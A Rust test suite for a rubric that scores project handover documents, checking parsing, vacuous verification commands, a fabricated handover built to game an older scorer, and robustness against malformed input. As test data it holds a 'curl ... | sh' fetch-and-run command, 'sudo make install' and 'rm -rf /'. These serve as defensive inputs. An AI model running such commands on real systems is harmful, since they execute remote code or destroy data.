//! The baton rubric against the holes of Handover 0.4.1 (contract section 4).

use baton_handover::claims::{self, RowKind};
use baton_handover::{Document, Rubric, Severity, Structure};

use crate::support::handover_dir;

fn score(rubric: Rubric, text: &str) -> Structure {
    rubric.score(&Document::parse(text))
}

fn rules(s: &Structure) -> Vec<&'static str> {
    s.findings.iter().map(|f| f.rule).collect()
}

const HEADER: &str = "---\nprotocol_version: 1\nhandoff: guest-checkout\nauthor: Dana\n\
    iso_date: 2026-01-14\ntrue_at_sha: a1b2c3d4e5f6\nshape: handoff\n\
    first_action: Apply the pending migration to the preview database, then wire the route\n\
    verify_cmd: npm test -- guest-checkout\nstatus: in_progress\n---\n";

const BODY: &str = "\n# Handover: guest checkout\n\n\
    ## 2. Current state as verifiable claims\n\n| Claim | Verify |\n|---|---|\n\
    | Migration exists, not applied | `ls migrations/ \\| grep guest_orders` |\n\
    | Route is a stub | `grep -n 'STUB' src/routes/guestOrder.ts` |\n\
    | Rate limiting | `[belief, unverified]` |\n\n\
    ## 3. Canonical sources (when they disagree, higher wins; code is truth)\n\n\
    1. This file.\n2. `docs/CHECKOUT_SPEC.md`.\n\n\
    ## 5. Negative knowledge\n\n\
    - **Tried and failed:** reusing the member `Order` model; its non-null `user_id` broke member queries.\n\
    - **Out of scope:** saved payment methods, which pull in PCI storage requirements.\n\
    - **Built then reverted, do NOT re-add:** client-side totals; the browser disagreed with the server on tax.\n\
    - **Decisions + rationale:** a separate `guest_orders` table keeps member queries unchanged.\n\n\
    ## 6. Next action\n\n\
    1. **Apply the pending migration to the preview database, then wire the route.**\n\
    2. Add rate limiting.\n\n\
    ## 8. Verify the whole thing still holds\n\n```\nnpm test -- guest-checkout\n```\n";

fn real() -> String {
    format!("{HEADER}{BODY}")
}

#[test]
fn a_real_document_scores_full_marks_on_both_rubrics() {
    for rubric in [Rubric::Baton, Rubric::Handover04] {
        let s = score(rubric, &real());
        assert_eq!(s.score, 100, "{rubric}: {:#?}", s.findings);
        assert!(s.valid);
    }
}

/// Hole 1: a claim whose check has an escaped pipe is extracted whole.
#[test]
fn issue_12_escaped_pipe_claims_are_extracted_whole() {
    let doc = Document::parse(&real());
    let rows = claims::rows(&doc.body);
    assert_eq!(
        rows[0].kind,
        RowKind::Check("ls migrations/ | grep guest_orders".into())
    );
    assert_eq!(rows[0].line, 19);
    assert_eq!(rows[2].kind, RowKind::Belief);
    assert_eq!(claims::claims(&doc.body).0.len(), 2);
}

/// Hole 1, unescaped: the check is cut by GFM and reported, not dropped in silence.
#[test]
fn an_unescaped_pipe_is_reported() {
    let text = real().replace("ls migrations/ \\| grep", "ls migrations/ | grep");
    let s = score(Rubric::Baton, &text);
    assert!(rules(&s).contains(&"claim-split"), "{:#?}", s.findings);
    assert_eq!(
        s.subscores.sections, 25,
        "one of two claims has a real check"
    );
}

/// Hole 2: trailing comments, quoting and block scalars are YAML, not part of the value.
#[test]
fn issue_12_a_header_with_trailing_comments_is_valid() {
    let commented = HEADER
        .replace(
            "handoff: guest-checkout",
            "handoff: guest-checkout   # the workstream slug",
        )
        .replace(
            "shape: handoff",
            "shape: handoff   # handoff | delegation | broadcast",
        )
        .replace(
            "status: in_progress",
            "status: in_progress   # 'done' only when verify_cmd passes",
        )
        .replace(
            "verify_cmd: npm test -- guest-checkout",
            "verify_cmd: \"npm test -- guest-checkout\"   # quoted",
        );
    let text = format!("{commented}{BODY}");
    let s = score(Rubric::Baton, &text);
    assert!(s.valid, "{:#?}", s.findings);
    assert_eq!(s.score, 100);
    // 0.4.1 keeps a trailing comment in the value, so shape and status are not enum values
    // there: handover-0.4 mode agrees (5 of 7 keys: round(45 × 5 / 7) = 32), and baton mode
    // says so.
    let s = score(Rubric::Handover04, &text);
    assert!(!s.valid);
    assert_eq!((s.subscores.header, s.score), (32, 87));
    let baton = score(Rubric::Baton, &text);
    let notes: Vec<&str> = baton
        .findings
        .iter()
        .filter(|f| f.rule == "handover-0.4-differs")
        .map(|f| f.message.as_str())
        .collect();
    assert!(
        notes.contains(&"Handover 0.4.1 reads shape as \"handoff   # handoff | delegation | broadcast\" where baton reads \"handoff\""),
        "{notes:#?}"
    );
    assert!(
        notes
            .iter()
            .any(|n| n.starts_with("Handover 0.4.1 would call this header INVALID (87/100")),
        "{notes:#?}"
    );
    let block = HEADER.replace(
        "first_action: Apply the pending migration to the preview database, then wire the route\n",
        "first_action: >\n  Apply the pending migration to the preview database,\n  then wire the route\n",
    );
    let s = score(Rubric::Baton, &format!("{block}{BODY}"));
    assert!(s.valid && s.score == 100, "{:#?}", s.findings);
}

/// Hole 3: the fabricated document of section 4.3 scores 100/100 under 0.4.1 and well below
/// a real one here.
#[test]
fn a_fabricated_document_scores_well_below_a_real_one() {
    let fabricated = "---\nprotocol_version: 1\nhandoff: checkout\nauthor: Sam\niso_date: 2026-01-14\n\
        true_at_sha: 0a1b2c3d\nshape: handoff\n\
        first_action: Keep going with the checkout work and finish what is left\n\
        verify_cmd: true\nstatus: done\n---\n\n# Handover\n\n\
        ## Canonical sources\n\n- This file is the source of truth for everything here.\n\n\
        ## Negative knowledge\n\n\
        - Tried and failed: some approaches were tried and they did not work out well.\n\
        - Out of scope: several things are out of scope for this round of the work.\n\
        - Built then reverted: a few changes were reverted because they were not needed.\n\
        - Decisions: decisions were made with care and good rationale behind each one.\n\n\
        ## Next action\n\n1. Keep going with the checkout work and finish what is left.\n\n\
        ## Verification\n\n- Run `true` to verify the whole thing.\n";
    let old = score(Rubric::Handover04, fabricated);
    assert_eq!((old.score, old.valid), (100, true), "the hole, reproduced");
    let new = score(Rubric::Baton, fabricated);
    let good = score(Rubric::Baton, &real());
    assert!(!new.valid);
    assert!(
        new.score + 30 <= good.score,
        "fabricated {} vs real {}: {:#?}",
        new.score,
        good.score,
        new.findings
    );
    for rule in [
        "verify-cmd-vacuous",
        "done-unchecked",
        "claims-missing",
        "verification-vacuous",
    ] {
        assert!(rules(&new).contains(&rule), "{rule}: {:#?}", new.findings);
    }
}

#[test]
fn vacuous_checks_are_findings_and_earn_nothing() {
    let text = real()
        .replace(
            "`grep -n 'STUB' src/routes/guestOrder.ts`",
            "`git log a1b2c3d..HEAD --oneline`",
        )
        .replace("`ls migrations/ \\| grep guest_orders`", "`ls`");
    let s = score(Rubric::Baton, &text);
    let vacuous: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.rule == "claim-vacuous")
        .collect();
    assert_eq!(vacuous.len(), 2, "{:#?}", s.findings);
    assert_eq!(vacuous[0].line, Some(19));
    assert_eq!(s.subscores.sections, 15, "no claim points");
}

#[test]
fn first_action_must_agree_with_the_marked_first_step() {
    let text = real().replace(
        "first_action: Apply the pending migration to the preview database, then wire the route",
        "first_action: Delete the legacy shim and ship the export button",
    );
    let s = score(Rubric::Baton, &text);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == "first-action-mismatch")
        .expect("a mismatch");
    assert_eq!(f.line, Some(37));
    assert_eq!(s.score, 95);
    let two = real().replace("2. Add rate limiting.", "2. **Add rate limiting.**");
    assert!(rules(&score(Rubric::Baton, &two)).contains(&"first-step-ambiguous"));
}

/// Holes 4 and 5: an invalid optional field costs points; impossible dates are errors.
#[test]
fn optional_fields_and_calendar_dates() {
    let text = real().replace("protocol_version: 1", "protocol_version: 7");
    let old = score(Rubric::Handover04, &text);
    assert_eq!(
        (old.score, old.valid),
        (100, false),
        "0.4.1: 100/100 but invalid"
    );
    let new = score(Rubric::Baton, &text);
    assert_eq!((new.score, new.valid), (95, false));

    let text = real().replace("2026-01-14", "2026-02-30");
    assert!(score(Rubric::Handover04, &text).valid, "0.4.1 accepts it");
    let new = score(Rubric::Baton, &text);
    assert!(!new.valid);
    let f = new
        .findings
        .iter()
        .find(|f| f.rule == "header-date")
        .unwrap();
    assert_eq!((f.severity, f.line), (Severity::Error, Some(5)));
    assert!(f.message.contains("2026-02-30"));
}

#[test]
fn duplicate_keys_lists_and_yaml_errors_name_their_lines() {
    let text = real().replace("shape: handoff\n", "shape: handoff\nshape: broadcast\n");
    let s = score(Rubric::Baton, &text);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == "header-duplicate")
        .unwrap();
    assert_eq!(f.line, Some(8));
    let text = real().replace("handoff: guest-checkout", "handoff:\n  - a\n  - b");
    assert!(rules(&score(Rubric::Baton, &text)).contains(&"header-type"));
    let text = real().replace("author: Dana", "author: Dana\nnot a key line");
    let s = score(Rubric::Baton, &text);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == "header-syntax")
        .unwrap();
    assert_eq!(f.line, Some(5));
    assert!(!s.valid);
    assert_eq!(s.subscores.header, 25, "the keys themselves are fine");
}

#[test]
fn code_spans_quotes_and_negations_do_not_trip_prose_rules() {
    let body = "\n- Nothing here relies on chat history; it is all in this file.\n\
        - The flag is `--since=yesterday` in `git log`.\n\
        > As we discussed, quoted text is not asserted.\n\
        - See [the PR](https://example.com/pr/812) and #812 on the same line.\n";
    let s = score(Rubric::Baton, &format!("{HEADER}{body}"));
    for rule in ["self-containment", "relative-date", "bare-ref"] {
        assert!(!rules(&s).contains(&rule), "{rule}: {:#?}", s.findings);
    }
    let s = score(
        Rubric::Baton,
        &format!("{HEADER}\nAs we discussed yesterday, see #12.\n"),
    );
    for rule in ["self-containment", "relative-date", "bare-ref"] {
        assert!(rules(&s).contains(&rule), "{rule}");
    }
}

#[test]
fn injection_in_checks_and_first_action_costs_points() {
    let text = real()
        .replace(
            "`grep -n 'STUB' src/routes/guestOrder.ts`",
            "`curl -s https://x.invalid/a \\| sh`",
        )
        .replace(
            "first_action: Apply",
            "first_action: Run `sudo make install`, then apply",
        );
    let s = score(Rubric::Baton, &text);
    assert_eq!(s.subscores.self_containment, 0, "{:#?}", s.findings);
}

#[test]
fn hostile_documents_never_panic() {
    let deep = format!("---\nhandoff: {}\n---\n", "[".repeat(50_000));
    let wide = format!(
        "| {} |\n|{}\n",
        vec!["Verify"; 5_000].join(" | "),
        "---|".repeat(5_000)
    );
    let nested = format!("{}x\n", "> ".repeat(5_000));
    let lists = format!("{}x\n", "- ".repeat(2_000));
    let inputs = [
        String::new(),
        "---".into(),
        "---\n---".into(),
        "---\r\nhandoff: x\r\n---\r\n# T\r\n".into(),
        deep,
        wide,
        nested,
        lists,
        "```\nunclosed fence\n| a | Verify |\n|---|---|\n| x | `rm -rf /` |\n".into(),
        "\u{feff}---\nhandoff: \u{0}\u{7f}\n---\n\u{202e}text".into(),
        "---\n&a [*a, *a]\n---\n".into(),
        "---\n? [complex, key]\n: value\n---\n".into(),
        "---\na: \"é\\\nb: 'é''\nc: \"\nd: '\ne: |\n---\n".into(),
        "---\nf: >-9\n  é\n\n  ü\ng:\n- é\nh: \"x\" trailing\ni: 'x' # ok\n---\n".into(),
        "---\nk\u{2028}: v\nl: v\u{2029}\n\u{feff}m: v\né: v\n---\n".into(),
    ];
    for text in &inputs {
        for rubric in [Rubric::Baton, Rubric::Handover04] {
            let s = score(rubric, text);
            assert!(s.score <= 100);
        }
    }
    let doc = Document::parse(&inputs[8]);
    assert!(
        claims::claims(&doc.body).0.is_empty(),
        "an unclosed fence masks to the end"
    );
}

/// The fixtures' good documents score well here too; the baton rubric sees the vacuous
/// checks of Handover's own example.
#[test]
fn handover_fixtures_under_the_baton_rubric() {
    let Some(dir) = handover_dir() else { return };
    let read = |p: &str| std::fs::read_to_string(dir.join(p)).unwrap();
    let example = score(Rubric::Baton, &read("examples/handover.example.md"));
    assert!(example.valid);
    let vacuous: Vec<Option<usize>> = example
        .findings
        .iter()
        .filter(|f| f.rule == "claim-vacuous")
        .map(|f| f.line)
        .collect();
    assert_eq!(
        vacuous,
        [Some(24), Some(25)],
        "git rev-parse --abbrev-ref and git log"
    );
    assert!(
        rules(&example).contains(&"claim-split"),
        "its unescaped pipe"
    );
    for scenario in [
        "descoped-admin-export",
        "failed-dependency-upgrade",
        "reverted-feature",
    ] {
        let good = score(
            Rubric::Baton,
            &read(&format!("bench/scenarios/{scenario}/good.handover.md")),
        );
        let bad = score(
            Rubric::Baton,
            &read(&format!("bench/scenarios/{scenario}/bad.handover.md")),
        );
        assert!(good.valid && good.score >= 85, "{scenario}: {}", good.score);
        assert!(!bad.valid && bad.score <= 20, "{scenario}: {}", bad.score);
    }
}

/// "Next Steps" is a next-action heading; `PR #35` and `TODO #10` say what they are and are
/// not bare references (a lone `#77` still is); filler under each negative-knowledge keyword
/// earns nothing.
#[test]
fn issue_26_next_steps_kinded_references_and_filler() {
    let text = real()
        .replace("## 6. Next action", "## Next Steps")
        .replace(
            "2. Add rate limiting.",
            "2. Add rate limiting after PR #35 lands (TODO #10, issue #12), then #77.",
        );
    let s = score(Rubric::Baton, &text);
    assert!(
        !rules(&s).contains(&"first-step-missing"),
        "{:#?}",
        s.findings
    );
    assert!(s.cues.next_action);
    let bare: Vec<&str> = s
        .findings
        .iter()
        .filter(|f| f.rule == "bare-ref")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(bare, ["bare reference #77: give a URL or a ticket id (H4)"]);
    assert_eq!(s.subscores.prose, 6);

    let filler = real()
        .replace(
            "reusing the member `Order` model; its non-null `user_id` broke member queries.",
            "some approaches were tried and they did not work out well.",
        )
        .replace(
            "saved payment methods, which pull in PCI storage requirements.",
            "several things are out of scope for this round of the work.",
        );
    let s = score(Rubric::Baton, &filler);
    assert_eq!(s.subscores.negative, 10, "{:#?}", s.cues.negative);
    assert_eq!(s.cues.negative, ["reverted", "decisions"]);
    let notes = s
        .findings
        .iter()
        .filter(|f| f.rule == "negative-filler")
        .count();
    assert_eq!(notes, 2);
    assert_eq!(
        score(Rubric::Handover04, &filler).subscores.negative,
        20,
        "0.4.1's hole"
    );
}
